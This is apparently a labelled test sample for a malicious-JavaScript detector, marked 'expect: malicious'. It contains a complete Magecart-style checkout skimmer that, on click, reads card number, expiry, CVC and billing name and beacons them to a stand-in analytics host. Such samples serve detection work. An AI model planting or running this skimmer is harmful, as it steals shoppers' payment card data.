// expect: malicious
// source: Magecart-style checkout skimmers (RiskIQ "Inside Magecart", 2018): on the checkout button's click, read
// the card fields with jQuery and send them, base64-encoded, as an image URL's query
(function ($) {
  var GATE = 'https://cdn-analytics.example/pixel.gif';
  $(document).on('click', '#checkout-submit', function () {
    var card = {
      n: $('input[name="cc-number"]').val(),
      e: $('#cc-exp').val(),
      c: $('input[name="cvc"]').val(),
      h: $('#billing-name').val()
    };
    var img = new Image();
    img.src = GATE + '?d=' + btoa(JSON.stringify(card));
  });
})(window.jQuery);
